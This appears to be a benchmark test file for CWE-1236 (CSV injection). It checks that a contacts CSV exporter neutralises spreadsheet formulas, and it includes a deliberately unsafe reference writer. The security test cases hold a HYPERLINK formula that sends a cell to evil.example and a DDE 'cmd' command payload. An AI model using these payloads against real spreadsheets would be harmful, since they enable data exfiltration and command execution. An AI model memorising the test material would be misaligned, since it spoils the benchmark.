"""
CWE-1236: Improper Neutralization of Formula Elements in a CSV File ('CSV Injection').
"""

import csv
import io

import pytest
from cwe_1236_0_task import contacts_csv


def contacts_csv_unsafe(contacts: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["name", "email", "company"])
    for contact in contacts:
        writer.writerow([contact["name"], contact["email"], contact["company"]])
    return out.getvalue()


def _check(test_func, contact, expect_formula_free):
    rows = list(csv.reader(io.StringIO(test_func([contact]))))
    assert rows[0] == ["name", "email", "company"] and len(rows) == 2
    if expect_formula_free:
        for value in rows[1]:
            assert value[:1] not in ("=", "+", "-", "@"), f"a spreadsheet runs {value!r}"
    else:
        assert rows[1] == [contact["name"], contact["email"], contact["company"]]


pytest_params = "contact, expect_formula_free"
pytest_params_functionality = [
    pytest.param({"name": "Alice", "email": "a@example.com", "company": "ACME"}, False, marks=pytest.mark.functionality),
    pytest.param({"name": "Bob, Jr.", "email": "b@example.com", "company": 'The "Best" Co'}, False, marks=pytest.mark.functionality),
]
pytest_params_security = [
    pytest.param({"name": "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "email": "e@example.com", "company": "x"}, True, marks=pytest.mark.security),
    pytest.param({"name": "Eve", "email": "+cmd|' /C calc'!A0", "company": "@SUM(1+1)"}, True, marks=pytest.mark.security),
]


@pytest.mark.parametrize(pytest_params, pytest_params_functionality + pytest_params_security)
def test_contacts_csv(contact, expect_formula_free):
    _check(contacts_csv, contact, expect_formula_free)


@pytest.mark.parametrize(pytest_params, pytest_params_functionality)
def test_contacts_csv_unsafe_functionality(contact, expect_formula_free):
    _check(contacts_csv_unsafe, contact, expect_formula_free)


@pytest.mark.parametrize(pytest_params, pytest_params_security)
def test_contacts_csv_unsafe_security(contact, expect_formula_free):
    with pytest.raises(AssertionError):
        _check(contacts_csv_unsafe, contact, expect_formula_free)
